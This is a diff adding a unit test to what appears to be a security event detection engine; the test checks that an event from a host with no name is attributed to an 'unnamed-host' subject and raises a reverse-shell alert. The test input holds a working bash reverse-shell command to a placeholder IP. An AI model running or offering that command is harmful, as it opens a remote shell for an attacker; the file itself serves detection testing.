@@ -76,3 +76,22 @@ test('a host known by its events alone is a subject by its name', () => {
   const [subject] = judge.assess().subjects;
   expect(subject).toMatchObject({ id: 'SRV-1', addresses: [] });
 });
+
+test('a log that does not name its machine still has one; a notice of nobody is held against nobody', () => {
+  const judge = new Judge(shippedSettings());
+  judge.observe({
+    kind: 'event',
+    event: event(
+      { host: '', addresses: [] },
+      { executable: '/bin/bash', commandLine: 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' },
+    ),
+  });
+  judge.observe({
+    kind: 'event',
+    event: { ...event({ host: '', addresses: [], kind: 'rule', severity: 'critical' }), process: null },
+  });
+  const { subjects } = judge.assess();
+  expect(subjects.map(({ id, alerts }) => [id, alerts.map(({ type }) => type)])).toEqual([
+    ['unnamed-host', ['event-reverse-shell']],
+  ]);
+});
